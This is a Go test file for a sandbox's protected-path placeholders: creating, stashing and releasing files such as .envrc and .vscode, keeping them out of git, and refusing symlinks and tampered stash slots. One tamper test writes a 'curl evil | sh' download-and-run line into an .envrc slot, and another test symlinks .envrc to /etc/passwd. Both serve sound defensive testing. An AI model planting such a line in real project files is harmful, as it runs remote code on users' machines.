//go:build linux

package placeholder

import (
	"bytes"
	"io"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"syscall"
	"testing"

	"golang.org/x/sys/unix"

	"github.com/agent-sandbox/agent-sandbox/internal/protect"
)

// Placeholders: missing protected paths are created (JSON ones holding
// {}), recorded, and removed by the last run to end in the workdir; a run
// that ends while another holds the lock leaves them; a placeholder that
// changed is kept.
func TestPlaceholders(t *testing.T) {
	root, _ := filepath.EvalSymlinks(t.TempDir())
	w := filepath.Join(root, "w")
	if err := os.MkdirAll(filepath.Join(w, ".vscode"), 0o755); err != nil {
		t.Fatal(err)
	}
	s := tspec{Workdir: w, Allow: []string{w}, StateDir: filepath.Join(root, "state", "agents", "x"),
		Protected: []pp{
			{Path: w + "/.vscode", Dir: true}, {Path: w + "/.claude/settings.json"}, {Path: w + "/.claude/commands", Dir: true},
			{Path: w + "/.envrc"}, {Path: w + "/.git/commondir", Optional: true},
		}}
	var warn bytes.Buffer
	rel1 := mustProtect(t, s, &warn)
	if b, err := os.ReadFile(w + "/.claude/settings.json"); err != nil || string(b) != "{}\n" {
		t.Errorf(".claude/settings.json placeholder = %q, %v", b, err)
	}
	for _, p := range []string{w + "/.envrc", w + "/.claude/commands"} {
		if _, err := os.Lstat(p); err != nil {
			t.Errorf("no placeholder at %s: %v", p, err)
		}
	}
	if _, err := os.Lstat(w + "/.git"); err == nil {
		t.Errorf("an optional path was created")
	}
	rel2 := mustProtect(t, s, &warn) // a second, concurrent run
	rel1()                           // not alone: leaves them
	if _, err := os.Lstat(w + "/.envrc"); err != nil {
		t.Fatalf("a run removed placeholders while another run in the workdir was going: %v", err)
	}
	rel2() // the last one: removes them
	for _, p := range []string{w + "/.envrc", w + "/.claude/settings.json", w + "/.claude/commands", w + "/.claude"} {
		if _, err := os.Lstat(p); err == nil {
			t.Errorf("placeholder %s left after the last run", p)
		}
	}
	if _, err := os.Lstat(w + "/.vscode"); err != nil {
		t.Errorf("the user's own .vscode was removed")
	}

	// A placeholder the user filled during the run is kept (and said so).
	rel := mustProtect(t, s, &warn)
	if err := os.WriteFile(w+"/.envrc", []byte("export X=1\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	rel()
	if b, _ := os.ReadFile(w + "/.envrc"); string(b) != "export X=1\n" {
		t.Errorf(".envrc written during the run was removed or changed: %q", b)
	}
	if !strings.Contains(warn.String(), w+"/.envrc") {
		t.Errorf("no warning about the kept placeholder: %s", warn.String())
	}

	// A symlink on the way refuses.
	os.Remove(w + "/.envrc")
	if err := os.Symlink("/etc/passwd", w+"/.envrc"); err != nil {
		t.Fatal(err)
	}
	if _, err := ensureProtected(s, &warn); err == nil || !strings.Contains(err.Error(), "symlink") {
		t.Errorf("ensureProtected through a symlink: %v", err)
	}
}

// mustProtect is ensureProtected, failing the test on an error.
func mustProtect(t *testing.T, s tspec, warn io.Writer) (release func() []string) {
	t.Helper()
	rel, err := ensureProtected(s, warn)
	if err != nil {
		t.Fatal(err)
	}
	return rel
}

// Placeholder files in a repository's workdir are listed in its
// info/exclude for the run (git inside does not show them, `git add -A`
// does not commit them), and the lines go again with the placeholders.
func TestPlaceholdersExcluded(t *testing.T) {
	root, _ := filepath.EvalSymlinks(t.TempDir())
	w := filepath.Join(root, "w")
	ex := filepath.Join(w, ".git", "info", "exclude")
	if err := os.MkdirAll(filepath.Dir(ex), 0o755); err != nil {
		t.Fatal(err)
	}
	os.WriteFile(ex, []byte("# user's own\n*.log\n"), 0o644)
	s := tspec{Workdir: w, Allow: []string{w}, StateDir: filepath.Join(root, "state", "agents", "x"),
		Protected: []pp{{Path: w + "/.envrc"}, {Path: w + "/.mcp.json"}, {Path: w + "/.vscode", Dir: true}}}
	rel := mustProtect(t, s, &bytes.Buffer{})
	during, _ := os.ReadFile(ex)
	for _, want := range []string{"*.log\n", excludeMarker + "\n/.envrc\n", excludeMarker + "\n/.mcp.json\n"} {
		if !strings.Contains(string(during), want) {
			t.Errorf("info/exclude during the run lacks %q: %s", want, during)
		}
	}
	if strings.Contains(string(during), "/.vscode") {
		t.Errorf("a placeholder directory (git does not track empty ones) was excluded: %s", during)
	}
	rel()
	if after, _ := os.ReadFile(ex); string(after) != "# user's own\n*.log\n" {
		t.Errorf("info/exclude after the run = %q", after)
	}
}

// inode is the inode number of p, 0 when it does not exist.
func inode(t *testing.T, p string) uint64 {
	t.Helper()
	fi, err := os.Lstat(p)
	if err != nil {
		return 0
	}
	return fi.Sys().(*syscall.Stat_t).Ino
}

// Placeholders are kept in the stash between runs and come back to the
// same path: the second run creates no inode (the same ones return), the
// workdir is clean after each run, and a stashed placeholder goes only to
// the path it was made for.
func TestPlaceholderStash(t *testing.T) {
	root, _ := filepath.EvalSymlinks(t.TempDir())
	w, v := filepath.Join(root, "w"), filepath.Join(root, "v")
	for _, d := range []string{w, v} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	specFor := func(wd string) tspec {
		return tspec{Workdir: wd, Allow: []string{wd}, StateDir: filepath.Join(root, "state", "agents", "x"),
			Protected: []pp{{Path: wd + "/.vscode", Dir: true}, {Path: wd + "/.mcp.json"}, {Path: wd + "/.envrc"}}}
	}
	names := []string{"/.vscode", "/.mcp.json", "/.envrc"}
	run := func(wd string) map[string]uint64 {
		t.Helper()
		rel := mustProtect(t, specFor(wd), &bytes.Buffer{})
		got := map[string]uint64{}
		for _, n := range names {
			if got[n] = inode(t, wd+n); got[n] == 0 {
				t.Errorf("no placeholder at %s", wd+n)
			}
		}
		if b, _ := os.ReadFile(wd + "/.mcp.json"); string(b) != "{}\n" {
			t.Errorf("%s/.mcp.json holds %q", wd, b)
		}
		rel()
		for _, n := range names {
			if inode(t, wd+n) != 0 {
				t.Errorf("placeholder %s left after the run", wd+n)
			}
		}
		return got
	}
	first := run(w)
	second := run(w)
	if !reflect.DeepEqual(first, second) {
		t.Errorf("the second run made new placeholders %v, want the stashed %v", second, first)
	}
	other := run(v)
	for _, n := range names {
		if other[n] == first[n] {
			t.Errorf("%s got the placeholder inode of %s", v+n, w+n)
		}
	}
}

// A stash slot that is not an empty placeholder (someone wrote to it) is
// never moved into a project: a fresh placeholder is made, the slot is put
// out of use, and a placeholder written during the run stays where it is.
// TestPlaceholderSharedPath: two runs in different workdirs that protect
// the same path (a repository's git dir, say). The first to end must leave
// the placeholder the other still binds (removing it would detach the
// other run's read-only bind), and keep its record, so that a later run in
// its workdir removes it.
func TestPlaceholderSharedPath(t *testing.T) {
	root, _ := filepath.EvalSymlinks(t.TempDir())
	w1, w2, shared := filepath.Join(root, "w1"), filepath.Join(root, "w2"), filepath.Join(root, "repo.git")
	for _, d := range []string{w1, w2, shared} {
		if err := os.MkdirAll(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	specFor := func(wd string) tspec {
		return tspec{Workdir: wd, Allow: []string{wd, shared}, StateDir: filepath.Join(root, "state", "agents", "x"),
			Protected: []pp{{Path: shared + "/hooks", Dir: true}, {Path: shared + "/info/attributes"}}}
	}
	paths := []string{shared + "/hooks", shared + "/info/attributes", shared + "/info"}
	present := func(when string, want bool) {
		t.Helper()
		for _, p := range paths {
			if got := inode(t, p) != 0; got != want {
				t.Errorf("%s: %s present %v, want %v", when, p, got, want)
			}
		}
	}
	var warn bytes.Buffer
	rel1 := mustProtect(t, specFor(w1), &warn)
	present("the first run", true)
	rel2 := mustProtect(t, specFor(w2), &warn)
	rel1()
	present("the first run ended, the second still going", true)
	rel2()
	present("the second run ended (it made no placeholder)", true)
	mustProtect(t, specFor(w1), &warn)()
	present("a later run in the first workdir ended alone", false)
	if warn.Len() > 0 {
		t.Errorf("warnings: %s", warn.String())
	}
}

func TestPlaceholderStashTampered(t *testing.T) {
	root, _ := filepath.EvalSymlinks(t.TempDir())
	w := filepath.Join(root, "w")
	if err := os.MkdirAll(w, 0o755); err != nil {
		t.Fatal(err)
	}
	s := tspec{Workdir: w, Allow: []string{w}, StateDir: filepath.Join(root, "state", "agents", "x"),
		Protected: []pp{{Path: w + "/.vscode", Dir: true}, {Path: w + "/.envrc"}}}
	rel := mustProtect(t, s, &bytes.Buffer{})
	rel()
	stashDir := filepath.Join(root, "state", "protect", "stash")
	dirSlot := filepath.Join(stashDir, slot(w+"/.vscode", true, ""))
	fileSlot := filepath.Join(stashDir, slot(w+"/.envrc", false, ""))
	if inode(t, dirSlot) == 0 || inode(t, fileSlot) == 0 {
		t.Fatalf("nothing stashed in %s", stashDir)
	}
	if err := os.WriteFile(filepath.Join(dirSlot, "tasks.json"), []byte(`{"tasks":[]}`), 0o644); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(fileSlot, []byte("curl evil | sh\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	rel = mustProtect(t, s, &bytes.Buffer{})
	if _, err := os.Lstat(w + "/.vscode/tasks.json"); err == nil {
		t.Errorf("a written stash directory was moved into the project")
	}
	if b, _ := os.ReadFile(w + "/.envrc"); len(b) != 0 {
		t.Errorf("a written stash file was moved into the project: %q", b)
	}
	for _, p := range []string{dirSlot + ".bad", fileSlot + ".bad"} {
		if inode(t, p) == 0 {
			t.Errorf("the tampered slot %s was not put out of use", p)
		}
	}
	// Written during the run: kept in the project, not stashed.
	if err := os.WriteFile(w+"/.vscode/settings.json", []byte("{}"), 0o644); err != nil {
		t.Fatal(err)
	}
	var warn bytes.Buffer
	rel2 := mustProtect(t, s, &warn)
	rel2()
	rel()
	if _, err := os.Lstat(w + "/.vscode/settings.json"); err != nil {
		t.Errorf("a file written into a placeholder during the run was lost: %v", err)
	}
	if inode(t, dirSlot) != 0 {
		t.Errorf("a placeholder with an entry was stashed")
	}
}

// A stashed placeholder that someone gave an extended attribute (a
// user.* one, or an ACL) is not moved into the project again.
func TestPlaceholderStashXattr(t *testing.T) {
	root, _ := filepath.EvalSymlinks(t.TempDir())
	w := filepath.Join(root, "w")
	if err := os.MkdirAll(w, 0o755); err != nil {
		t.Fatal(err)
	}
	s := tspec{Workdir: w, Allow: []string{w}, StateDir: filepath.Join(root, "state", "agents", "x"),
		Protected: []pp{{Path: w + "/.vscode", Dir: true}}}
	rel := mustProtect(t, s, &bytes.Buffer{})
	first := inode(t, w+"/.vscode")
	rel()
	dirSlot := filepath.Join(root, "state", "protect", "stash", slot(w+"/.vscode", true, ""))
	if err := unix.Setxattr(dirSlot, "user.planted", []byte("x"), 0); err != nil {
		t.Skipf("needs user extended attributes on %s: %v", root, err)
	}
	rel = mustProtect(t, s, &bytes.Buffer{})
	defer rel()
	if inode(t, w+"/.vscode") == first {
		t.Errorf("a stashed placeholder with a user.* attribute was moved into the project")
	}
	if inode(t, dirSlot+".bad") != first {
		t.Errorf("the slot with the attribute was not put out of use")
	}
}

// pp is a protected path of a test run: read-only, or with Optional
// disarmed (never created).
type pp struct {
	Path     string
	Name     string
	Dir      bool
	Optional bool
}

// tspec is a test run: its workdir, writable grants, state dir (below the
// state root's agents/<id>) and protected paths.
type tspec struct {
	Workdir   string
	Allow     []string
	StateDir  string
	Protected []pp
}

// ensureProtected makes the placeholders of s's ledger (Make) and returns
// their release.
func ensureProtected(s tspec, warn io.Writer) (func() []string, error) {
	var l protect.Ledger
	writable := append(append([]string{}, s.Allow...), s.Workdir)
	for _, p := range s.Protected {
		if p.Optional {
			continue // protected only as it exists: not in this ledger
		}
		e := protect.Entry{Path: p.Path, Name: p.Name, Dir: p.Dir, Guard: protect.ReadOnly}
		for _, w := range writable {
			if strings.HasPrefix(p.Path, w+"/") && len(w) > len(e.Root) {
				e.Root = w
			}
		}
		if e.Root != "" {
			l.Entries = append(l.Entries, e)
		}
	}
	set, err := Make(l, filepath.Dir(filepath.Dir(s.StateDir)), s.Workdir)
	if err != nil {
		return nil, err
	}
	return func() []string { return set.Release(warn) }, nil
}
